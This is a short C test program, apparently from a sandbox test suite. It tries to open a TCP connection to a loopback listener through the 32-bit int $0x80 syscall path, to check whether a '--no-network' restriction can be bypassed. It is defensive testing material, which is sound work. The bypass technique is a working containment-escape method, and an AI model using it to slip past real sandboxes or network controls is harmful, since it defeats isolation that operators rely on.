// attack: ia32_socket
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// setup: listener
// needs: ia32
// evidence: socket+connect through the i386 ABI (int $0x80: socket=359, connect=362) reach the TCP listener under --no-network
// escaped-if: conn tcp
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>

static long int80(long nr, long a, long b, long c)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	return r;
}

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	struct sockaddr_in *a = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (a == MAP_FAILED)
		return 2;
	a->sin_family = AF_INET;
	a->sin_port = htons(arg_long("tcp"));
	a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	long s = int80(359, AF_INET, SOCK_STREAM, 0);
	say("int80 socket: %ld\n", s);
	if (s >= 0)
		say("int80 connect: %ld\n", int80(362, s, (long)a, sizeof *a));
	return 0;
}
